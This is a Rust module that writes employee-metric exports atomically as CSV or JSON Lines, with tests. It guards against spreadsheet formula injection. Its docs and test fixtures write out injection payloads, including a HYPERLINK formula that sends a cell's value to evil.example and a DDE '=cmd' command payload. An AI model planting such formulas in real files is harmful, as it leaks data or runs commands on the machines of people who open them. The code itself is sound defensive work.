//! Writes an export of employee metrics to a file, atomically.
//!
//! An export job can crash half-way or be retried by the queue. So the rows go to a temporary
//! file in the target directory (`.<stem>.<ext>.tmp-<random>`, made by `tempfile`), which is
//! flushed and synced to disk and only then renamed to its final name `<stem>.<ext>`. A rename within one directory
//! replaces the target atomically, so the final name only ever holds a complete file, and a
//! retried export with the same stem cleanly replaces the previous one: one final file per export
//! id. The directory is synced after the rename so the new name survives a power loss too.
//!
//! On an error the temporary file is removed. A process killed mid-write can leave a
//! `.…tmp-…` file behind (never a final one); such names start with a dot and can be swept.
//!
//! CSV files are opened in spreadsheets, which evaluate a cell starting with `=`, `+`, `-` or
//! `@` as a formula (and some also after a leading tab or carriage return): an employee named
//! `=HYPERLINK("https://evil.example/?"&A1,"click")` would run in the reader's spreadsheet. So
//! every *text* cell (name, team, title) that starts with one of those characters, or with their
//! full-width forms (`＝＋－＠`, which some spreadsheets read the same), is written with a `'`
//! in front ([`neutralise_formula`]), as OWASP recommends for CSV injection; the spreadsheet
//! shows it as text. Numeric cells (id, degree, the scores) are formatted by this module from
//! integers and floats, so they can only start with a digit or `-`, and stay numbers: `-2` and
//! `-0.5` are not escaped. JSON Lines is data, not a spreadsheet, and is written as is.

use serde::{Deserialize, Serialize};
use std::borrow::Cow;
use std::fs::{self, File};
use std::io::{self, BufWriter, Write};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use tempfile::NamedTempFile;

/// The longest accepted file stem.
pub const MAX_STEM_LEN: usize = 100;

/// The CSV header line's fields, in column order; also the JSONL keys.
pub const COLUMNS: [&str; 7] = ["id", "name", "team", "title", "degree", "pagerank", "betweenness"];

/// One employee's line in an export (also a row of the export query).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, sqlx::FromRow)]
pub struct EmployeeRow {
    pub id: i64,
    pub name: String,
    pub team: String,
    /// Their job title (may be empty).
    pub title: String,
    /// Their number of relations in the org graph.
    pub degree: i64,
    /// Their PageRank from the latest analysis, if there is one. Written empty (CSV) or `null`
    /// (JSONL) when missing or not finite.
    pub pagerank: Option<f64>,
    /// Their normalised betweenness from the latest analysis, if there is one; written like
    /// `pagerank`.
    pub betweenness: Option<f64>,
}

/// The file format of an export.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Format {
    /// Comma-separated values (RFC 4180 quoting by the `csv` crate, `\n` line ends) with a header
    /// line.
    Csv,
    /// One JSON object per line (JSON Lines), with the keys of [`COLUMNS`].
    Jsonl,
}

impl Format {
    /// The file extension, without the dot: `csv` or `jsonl`.
    pub fn extension(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
        }
    }
}

/// What [`write_export`] wrote.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Written {
    /// The final file: `dir/<stem>.<ext>`.
    pub path: PathBuf,
    /// Its size in bytes.
    pub bytes: u64,
    /// The number of employee rows in it (the CSV header is not counted).
    pub rows: u64,
}

/// Why an export file could not be written. Every variant names the path concerned.
#[derive(Debug, thiserror::Error)]
pub enum ExportFileError {
    /// The stem is empty, longer than [`MAX_STEM_LEN`], or has a character outside
    /// `[A-Za-z0-9_-]` (so it can never name another directory).
    #[error(
        "invalid export file name {stem:?} for {}: it must be 1 to {MAX_STEM_LEN} characters of A-Z, a-z, 0-9, '_' or '-'",
        dir.display()
    )]
    InvalidStem {
        /// The directory the file was to go in.
        dir: PathBuf,
        /// The stem as given.
        stem: String,
    },
    /// A file-system operation failed.
    #[error("export file: cannot {action} {}: {source}", path.display())]
    Io {
        /// What was being done, e.g. "create directory".
        action: &'static str,
        /// The file or directory concerned.
        path: PathBuf,
        source: io::Error,
    },
    /// A row could not be encoded as JSON.
    #[error("export file: cannot encode row {row} of {} as JSON: {source}", path.display())]
    Encode {
        /// The final file being written.
        path: PathBuf,
        /// The 0-based index of the row.
        row: u64,
        source: serde_json::Error,
    },
    /// The export was given up (its job's attempt timed out) before its file was in place; no
    /// file was left.
    #[error("export file {} not written: the export was given up", path.display())]
    Cancelled {
        /// The final file it would have been.
        path: PathBuf,
    },
}

/// Whether `stem` is a safe file stem: 1 to [`MAX_STEM_LEN`] characters of `[A-Za-z0-9_-]`.
pub fn is_valid_stem(stem: &str) -> bool {
    (1..=MAX_STEM_LEN).contains(&stem.len())
        && stem.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_' || b == b'-')
}

/// Writes `rows` to `dir/<file_stem>.<ext>` atomically (see the module docs), creating `dir`
/// if needed and replacing an existing file of that name.
///
/// `file_stem` (e.g. the export id) must pass [`is_valid_stem`]. Rows are streamed, so memory
/// use does not grow with their number.
pub fn write_export(
    dir: &Path,
    file_stem: &str,
    format: Format,
    rows: impl IntoIterator<Item = EmployeeRow>,
) -> Result<Written, ExportFileError> {
    write_export_until(dir, file_stem, format, rows, &AtomicBool::new(false))
}

/// [`write_export`], given up when `cancelled` is set: checked before each row and once more
/// just before the rename, so an export whose job was given up stops writing and never puts its
/// file in place after the job was marked failed (only a cancel between that last check and the
/// rename, a few microseconds, can still land).
pub fn write_export_until(
    dir: &Path,
    file_stem: &str,
    format: Format,
    rows: impl IntoIterator<Item = EmployeeRow>,
    cancelled: &AtomicBool,
) -> Result<Written, ExportFileError> {
    if !is_valid_stem(file_stem) {
        return Err(ExportFileError::InvalidStem {
            dir: dir.to_path_buf(),
            stem: file_stem.to_owned(),
        });
    }
    fs::create_dir_all(dir).map_err(io_error("create directory", dir))?;
    let file_name = format!("{file_stem}.{}", format.extension());
    let path = dir.join(&file_name);
    // Dropped on any error before the rename, the temporary file is removed.
    let temp = create_temp(dir, &file_name)?;
    let rows = rows.into_iter().take_while(|_| !cancelled.load(Ordering::Relaxed));
    let (bytes, rows) = write_and_sync(temp.as_file(), temp.path(), &path, format, rows)?;
    if cancelled.load(Ordering::Relaxed) {
        return Err(ExportFileError::Cancelled { path });
    }
    temp.persist(&path).map_err(|e| ExportFileError::Io {
        action: "rename temporary file to",
        path: path.clone(),
        source: e.error,
    })?;
    sync_dir(dir)?;
    Ok(Written { path, bytes, rows })
}

/// Creates `dir/.<file_name>.tmp-<random>` exclusively (never opening an existing file), with
/// the permissions of any new file (not `tempfile`'s owner-only ones: the export is for others).
fn create_temp(dir: &Path, file_name: &str) -> Result<NamedTempFile, ExportFileError> {
    let prefix = format!(".{file_name}.tmp-");
    let mut builder = tempfile::Builder::new();
    builder.prefix(&prefix).rand_bytes(16);
    #[cfg(unix)]
    builder.permissions(std::os::unix::fs::PermissionsExt::from_mode(0o666));
    builder.tempfile_in(dir).map_err(|source| ExportFileError::Io {
        action: "create a temporary file like",
        path: dir.join(&prefix),
        source,
    })
}

/// Writes the whole content to `file` (the temporary file), flushes and syncs it. Returns the
/// bytes and rows written.
fn write_and_sync(
    file: &File,
    temp_path: &Path,
    final_path: &Path,
    format: Format,
    rows: impl IntoIterator<Item = EmployeeRow>,
) -> Result<(u64, u64), ExportFileError> {
    let write_error = io_error("write", temp_path);
    let mut out = Counting { inner: BufWriter::new(file), bytes: 0 };
    let mut count = 0u64;
    match format {
        Format::Csv => {
            let csv_error = |e: csv::Error| match e.into_kind() {
                csv::ErrorKind::Io(e) => write_error(e),
                other => write_error(io::Error::other(format!("{other:?}"))),
            };
            let mut csv = csv::WriterBuilder::new()
                .terminator(csv::Terminator::Any(b'\n'))
                .from_writer(&mut out);
            csv.write_record(COLUMNS).map_err(csv_error)?;
            for row in rows {
                csv.write_record(csv_fields(&row)).map_err(csv_error)?;
                count += 1;
            }
            csv.flush().map_err(&write_error)?;
        }
        Format::Jsonl => {
            for row in rows {
                let json = JsonRow::from(&row);
                serde_json::to_writer(&mut out, &json).map_err(|source| {
                    if source.is_io() {
                        ExportFileError::Io {
                            action: "write",
                            path: temp_path.to_path_buf(),
                            source: source.into(),
                        }
                    } else {
                        ExportFileError::Encode {
                            path: final_path.to_path_buf(),
                            row: count,
                            source,
                        }
                    }
                })?;
                out.write_all(b"\n").map_err(&write_error)?;
                count += 1;
            }
        }
    }
    let bytes = out.bytes;
    let file = out.inner.into_inner().map_err(|e| ExportFileError::Io {
        action: "flush",
        path: temp_path.to_path_buf(),
        source: e.into_error(),
    })?;
    file.sync_all().map_err(io_error("sync", temp_path))?;
    Ok((bytes, count))
}

/// Makes the rename in `dir` durable. Directories cannot be opened as files on Windows, where
/// this is a no-op.
fn sync_dir(dir: &Path) -> Result<(), ExportFileError> {
    #[cfg(unix)]
    File::open(dir).and_then(|d| d.sync_all()).map_err(io_error("sync directory", dir))?;
    #[cfg(not(unix))]
    let _ = dir;
    Ok(())
}

fn io_error(action: &'static str, path: &Path) -> impl Fn(io::Error) -> ExportFileError {
    let path = path.to_path_buf();
    move |source| ExportFileError::Io { action, path: path.clone(), source }
}

/// A writer that counts the bytes that pass through it.
struct Counting<W> {
    inner: W,
    bytes: u64,
}

impl<W: Write> Write for Counting<W> {
    fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.bytes += n as u64;
        Ok(n)
    }

    fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }
}

/// The JSONL form of a row: the same keys, non-finite scores as `null`.
#[derive(Serialize)]
struct JsonRow<'a> {
    id: i64,
    name: &'a str,
    team: &'a str,
    title: &'a str,
    degree: i64,
    pagerank: Option<f64>,
    betweenness: Option<f64>,
}

impl<'a> From<&'a EmployeeRow> for JsonRow<'a> {
    fn from(row: &'a EmployeeRow) -> Self {
        JsonRow {
            id: row.id,
            name: &row.name,
            team: &row.team,
            title: &row.title,
            degree: row.degree,
            pagerank: finite(row.pagerank),
            betweenness: finite(row.betweenness),
        }
    }
}

fn finite(score: Option<f64>) -> Option<f64> {
    score.filter(|s| s.is_finite())
}

/// The first characters that make a spreadsheet read a cell as a formula (OWASP's list: `=`,
/// `+`, `-`, `@`, tab, carriage return), and the full-width forms of the first four.
pub const FORMULA_STARTS: [char; 10] =
    ['=', '+', '-', '@', '\t', '\r', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}'];

/// `text` as a CSV text cell a spreadsheet will not evaluate: with a `'` in front if it starts
/// with one of [`FORMULA_STARTS`], unchanged otherwise. Only for text columns: a number such as
/// `-0.5` must stay a number.
pub fn neutralise_formula(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `row`'s CSV fields; missing and non-finite scores are empty, text cells neutralised
/// ([`neutralise_formula`]).
fn csv_fields(row: &EmployeeRow) -> [String; 7] {
    let score = |s: Option<f64>| finite(s).map(|s| format!("{s:?}")).unwrap_or_default();
    let text = |t: &str| neutralise_formula(t).into_owned();
    [
        row.id.to_string(),
        text(&row.name),
        text(&row.team),
        text(&row.title),
        row.degree.to_string(),
        score(row.pagerank),
        score(row.betweenness),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A fresh, empty directory under the system temp dir, removed on drop.
    fn temp_dir(name: &str) -> tempfile::TempDir {
        tempfile::Builder::new().prefix(&format!("worker-export-file-{name}-")).tempdir().unwrap()
    }

    fn names_in(dir: &Path) -> Vec<String> {
        let mut names: Vec<String> = fs::read_dir(dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().into_string().unwrap())
            .collect();
        names.sort();
        names
    }

    fn tricky_rows() -> Vec<EmployeeRow> {
        vec![
            EmployeeRow {
                id: 1,
                name: "Smith, Jane".into(),
                team: "Platform".into(),
                title: "Staff \"Principal\" Engineer".into(),
                degree: 12,
                pagerank: Some(0.125),
                betweenness: Some(1.0),
            },
            EmployeeRow {
                id: -2,
                name: "Line\nBreak\r\nName".into(),
                team: "Zoë's Ünicode 团队 🚀".into(),
                title: String::new(),
                degree: 0,
                pagerank: None,
                betweenness: Some(0.0),
            },
            EmployeeRow {
                id: i64::MAX,
                name: "\"".into(),
                team: ",".into(),
                title: " leading and trailing spaces ".into(),
                degree: i64::MIN,
                pagerank: Some(1e-300),
                betweenness: None,
            },
            EmployeeRow {
                id: 4,
                name: "plain".into(),
                team: "t".into(),
                title: "\"\"".into(),
                degree: 3,
                pagerank: Some(0.1 + 0.2),
                betweenness: Some(std::f64::consts::PI / 4.0),
            },
        ]
    }

    /// An RFC 4180 parser, for checking only: records of fields.
    fn parse_csv(text: &str) -> Vec<Vec<String>> {
        let mut records = Vec::new();
        let mut record = Vec::new();
        let mut field = String::new();
        let mut chars = text.chars().peekable();
        let mut quoted = false;
        while let Some(c) = chars.next() {
            if quoted {
                if c == '"' {
                    if chars.peek() == Some(&'"') {
                        chars.next();
                        field.push('"');
                    } else {
                        quoted = false;
                    }
                } else {
                    field.push(c);
                }
            } else {
                match c {
                    '"' => {
                        assert!(field.is_empty(), "quote inside an unquoted field");
                        quoted = true;
                    }
                    ',' => record.push(std::mem::take(&mut field)),
                    '\n' => {
                        record.push(std::mem::take(&mut field));
                        records.push(std::mem::take(&mut record));
                    }
                    '\r' => panic!("bare CR outside quotes"),
                    _ => field.push(c),
                }
            }
        }
        assert!(!quoted, "unterminated quote");
        assert!(field.is_empty() && record.is_empty(), "last line has no newline");
        records
    }

    fn score(field: &str) -> Option<f64> {
        if field.is_empty() { None } else { Some(field.parse().unwrap()) }
    }

    #[test]
    fn csv_round_trips_tricky_fields() {
        let dir = temp_dir("csv");
        let rows = tricky_rows();
        let written = write_export(dir.path(), "export_01-A", Format::Csv, rows.clone()).unwrap();
        assert_eq!(written.path, dir.path().join("export_01-A.csv"));
        assert_eq!(written.rows, rows.len() as u64);
        assert_eq!(written.bytes, fs::metadata(&written.path).unwrap().len());

        let text = fs::read_to_string(&written.path).unwrap();
        let records = parse_csv(&text);
        assert_eq!(records[0], COLUMNS);
        let parsed: Vec<EmployeeRow> = records[1..]
            .iter()
            .map(|r| {
                assert_eq!(r.len(), 7, "{r:?}");
                EmployeeRow {
                    id: r[0].parse().unwrap(),
                    name: r[1].clone(),
                    team: r[2].clone(),
                    title: r[3].clone(),
                    degree: r[4].parse().unwrap(),
                    pagerank: score(&r[5]),
                    betweenness: score(&r[6]),
                }
            })
            .collect();
        assert_eq!(parsed, rows);
        assert_eq!(names_in(dir.path()), ["export_01-A.csv"]);
    }

    #[test]
    fn csv_quotes_only_what_needs_it() {
        let dir = temp_dir("quotes");
        let written = write_export(dir.path(), "q", Format::Csv, tricky_rows()).unwrap();
        let text = fs::read_to_string(written.path).unwrap();
        assert_eq!(
            text.lines().nth(1).unwrap(),
            "1,\"Smith, Jane\",Platform,\"Staff \"\"Principal\"\" Engineer\",12,0.125,1.0"
        );
        let rest = text.split_once("\n4,").unwrap().1;
        assert_eq!(rest, "plain,t,\"\"\"\"\"\",3,0.30000000000000004,0.7853981633974483\n");
        let second = text.split_once("\n-2,").unwrap().1;
        assert!(second.starts_with("\"Line\nBreak\r\nName\",Zoë's Ünicode 团队 🚀,,0,,0.0\n"));
    }

    fn hostile_rows() -> Vec<EmployeeRow> {
        let row = |id: i64, name: &str, team: &str, title: &str, score: Option<f64>| EmployeeRow {
            id,
            name: name.into(),
            team: team.into(),
            title: title.into(),
            degree: id * 10,
            pagerank: score,
            betweenness: score.map(|s| s * 2.0),
        };
        vec![
            row(
                1,
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
                "+T",
                "-title",
                Some(-0.5),
            ),
            row(-2, "@SUM(A1:A9)", "\tTabbed", "\r=1+1", Some(-1e-7)),
            row(3, "-2+3", "=cmd|' /C calc'!A0", "@here", None),
            row(4, "\u{FF1D}1+1", "\u{FF0B}x", "\u{FF20}y", Some(0.25)),
            row(5, "a=b", "'quoted already", "x-y", Some(1.0)),
        ]
    }

    #[test]
    fn csv_neutralises_formulas_in_text_cells_and_keeps_numbers() {
        let dir = temp_dir("formulas");
        let rows = hostile_rows();
        let written = write_export(dir.path(), "hostile", Format::Csv, rows.clone()).unwrap();
        let records = parse_csv(&fs::read_to_string(&written.path).unwrap());
        assert_eq!(records.len(), rows.len() + 1);
        for (record, row) in records[1..].iter().zip(&rows) {
            // Every text cell that starts like a formula has a quote in front; no other changes.
            for (cell, text) in
                [(&record[1], &row.name), (&record[2], &row.team), (&record[3], &row.title)]
            {
                let hostile = text.starts_with(FORMULA_STARTS);
                let expected = if hostile { format!("'{text}") } else { text.clone() };
                assert_eq!(cell, &expected, "{text:?}");
                assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} would be evaluated");
            }
            // Numbers stay numbers, negative ones included.
            assert_eq!(record[0], row.id.to_string());
            assert_eq!(record[4], row.degree.to_string());
            assert_eq!(score(&record[5]), row.pagerank);
            assert_eq!(score(&record[6]), row.betweenness);
        }
        assert_eq!(records[1][5], "-0.5", "a negative score is written as a number");
        assert_eq!(records[2][0], "-2", "a negative id is written as a number");
        assert_eq!(records[2][2], "'\tTabbed");
        assert_eq!(
            records[5][1..4],
            ["a=b", "'quoted already", "x-y"],
            "only the first character counts"
        );
    }

    #[test]
    fn jsonl_writes_hostile_text_as_is() {
        let dir = temp_dir("formulas-jsonl");
        let rows = hostile_rows();
        let written = write_export(dir.path(), "hostile", Format::Jsonl, rows.clone()).unwrap();
        let text = fs::read_to_string(&written.path).unwrap();
        let parsed: Vec<EmployeeRow> =
            text.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(parsed, rows, "JSON Lines is data, not a spreadsheet: nothing is escaped");
    }

    #[test]
    fn neutralise_formula_prefixes_only_formula_starts() {
        for hostile in ["=1", "+1", "-1", "@a", "\ta", "\ra", "\u{FF1D}1", "\u{FF0D}1"] {
            assert_eq!(neutralise_formula(hostile), format!("'{hostile}"));
        }
        for safe in ["", "1", "a=1", " =1", "'=1", "Ünicode", "\n=1"] {
            assert!(matches!(neutralise_formula(safe), Cow::Borrowed(s) if s == safe), "{safe:?}");
        }
    }

    #[test]
    fn jsonl_round_trips_tricky_fields() {
        let dir = temp_dir("jsonl");
        let rows = tricky_rows();
        let written = write_export(dir.path(), "e1", Format::Jsonl, rows.clone()).unwrap();
        assert_eq!(written.path, dir.path().join("e1.jsonl"));
        assert_eq!(written.rows, 4);
        assert_eq!(written.bytes, fs::metadata(&written.path).unwrap().len());

        let text = fs::read_to_string(&written.path).unwrap();
        assert!(text.ends_with('\n'));
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), rows.len(), "one object per line, even with newlines in names");
        let parsed: Vec<EmployeeRow> =
            lines.iter().map(|l| serde_json::from_str(l).unwrap()).collect();
        assert_eq!(parsed, rows);

        let first: serde_json::Value = serde_json::from_str(lines[1]).unwrap();
        let keys: Vec<&str> = first.as_object().unwrap().keys().map(String::as_str).collect();
        let mut expected = COLUMNS.to_vec();
        expected.sort();
        let mut keys_sorted = keys.clone();
        keys_sorted.sort();
        assert_eq!(keys_sorted, expected);
        assert!(first["pagerank"].is_null());
        assert_eq!(names_in(dir.path()), ["e1.jsonl"]);
    }

    #[test]
    fn non_finite_scores_are_written_as_missing() {
        let dir = temp_dir("nonfinite");
        let row = EmployeeRow {
            id: 9,
            name: "n".into(),
            team: "t".into(),
            title: "x".into(),
            degree: 1,
            pagerank: Some(f64::NAN),
            betweenness: Some(f64::INFINITY),
        };
        let csv = write_export(dir.path(), "c", Format::Csv, [row.clone()]).unwrap();
        assert_eq!(fs::read_to_string(csv.path).unwrap().lines().nth(1), Some("9,n,t,x,1,,"));
        let jsonl = write_export(dir.path(), "j", Format::Jsonl, [row]).unwrap();
        let value: serde_json::Value =
            serde_json::from_str(&fs::read_to_string(jsonl.path).unwrap()).unwrap();
        assert!(value["pagerank"].is_null() && value["betweenness"].is_null());
    }

    #[test]
    fn empty_export_has_only_the_header() {
        let dir = temp_dir("empty");
        let csv = write_export(dir.path(), "none", Format::Csv, []).unwrap();
        let header = format!("{}\n", COLUMNS.join(","));
        assert_eq!(fs::read_to_string(&csv.path).unwrap(), header);
        assert_eq!((csv.rows, csv.bytes), (0, header.len() as u64));
        let jsonl = write_export(dir.path(), "none", Format::Jsonl, []).unwrap();
        assert_eq!((jsonl.rows, jsonl.bytes), (0, 0));
        assert_eq!(fs::metadata(&jsonl.path).unwrap().len(), 0);
        assert_eq!(names_in(dir.path()), ["none.csv", "none.jsonl"]);
    }

    #[test]
    fn creates_missing_directories() {
        let dir = temp_dir("nested");
        let nested = dir.path().join("a").join("b");
        let written = write_export(&nested, "x", Format::Csv, tricky_rows()).unwrap();
        assert!(written.path.starts_with(&nested));
        assert_eq!(names_in(&nested), ["x.csv"]);
    }

    #[test]
    fn a_retry_overwrites_the_final_file() {
        let dir = temp_dir("overwrite");
        let big = write_export(dir.path(), "job", Format::Jsonl, tricky_rows()).unwrap();
        let small_rows = vec![tricky_rows().remove(3)];
        let small = write_export(dir.path(), "job", Format::Jsonl, small_rows.clone()).unwrap();
        assert_eq!(small.path, big.path);
        assert!(small.bytes < big.bytes);
        assert_eq!(fs::metadata(&small.path).unwrap().len(), small.bytes);
        let text = fs::read_to_string(&small.path).unwrap();
        let parsed: EmployeeRow = serde_json::from_str(text.trim_end()).unwrap();
        assert_eq!(vec![parsed], small_rows);
        assert_eq!(names_in(dir.path()), ["job.jsonl"], "exactly one file, no temporary left");
    }

    #[test]
    fn rejects_unsafe_stems_and_writes_nothing() {
        let dir = temp_dir("stems");
        let long = "a".repeat(MAX_STEM_LEN + 1);
        for stem in ["../x", "", "a/b", "a\\b", "..", ".hidden", "x.csv", "a b", "é", "x\0", &long]
        {
            let err = write_export(dir.path(), stem, Format::Csv, tricky_rows()).unwrap_err();
            assert!(matches!(err, ExportFileError::InvalidStem { .. }), "{stem:?}: {err}");
            assert!(err.to_string().contains(&dir.path().display().to_string()));
        }
        assert!(names_in(dir.path()).is_empty());
        assert!(is_valid_stem(&"a".repeat(MAX_STEM_LEN)));
        assert!(is_valid_stem("01HZX-export_7"));
    }

    #[test]
    fn errors_name_the_path_and_leave_no_temporary() {
        let dir = temp_dir("errors");
        // `dir/blocker` is a file, so it cannot be the export directory.
        let blocker = dir.path().join("blocker");
        fs::write(&blocker, b"not a directory").unwrap();
        let err = write_export(&blocker, "x", Format::Csv, tricky_rows()).unwrap_err();
        assert!(matches!(err, ExportFileError::Io { .. }), "{err}");
        assert!(err.to_string().contains(&blocker.display().to_string()), "{err}");

        // A directory where the final file should be: the rename fails, the temp file goes.
        fs::create_dir(dir.path().join("taken.csv")).unwrap();
        fs::write(dir.path().join("taken.csv").join("inside"), b"keep").unwrap();
        let err = write_export(dir.path(), "taken", Format::Csv, tricky_rows()).unwrap_err();
        assert!(err.to_string().contains("taken.csv"), "{err}");
        assert_eq!(names_in(dir.path()), ["blocker", "taken.csv"]);
    }

    #[test]
    fn temporary_names_are_hidden_and_unique() {
        let dir = temp_dir("temp");
        let a = create_temp(dir.path(), "x.csv").unwrap();
        let b = create_temp(dir.path(), "x.csv").unwrap();
        assert_ne!(a.path(), b.path());
        for p in [a.path(), b.path()] {
            let name = p.file_name().unwrap().to_str().unwrap();
            assert!(name.starts_with(".x.csv.tmp-"), "{name}");
        }
    }
    #[test]
    fn a_cancelled_export_stops_and_leaves_no_file() {
        let dir = temp_dir("cancelled");
        let cancelled = AtomicBool::new(false);
        let rows = tricky_rows().into_iter().enumerate().map(|(i, row)| {
            if i == 1 {
                cancelled.store(true, Ordering::Relaxed);
            }
            row
        });
        let err =
            write_export_until(dir.path(), "late", Format::Csv, rows, &cancelled).unwrap_err();
        assert!(matches!(err, ExportFileError::Cancelled { .. }), "{err}");
        let left: Vec<_> = fs::read_dir(dir.path()).unwrap().collect();
        assert!(left.is_empty(), "no file, no temporary: {left:?}");
    }
}
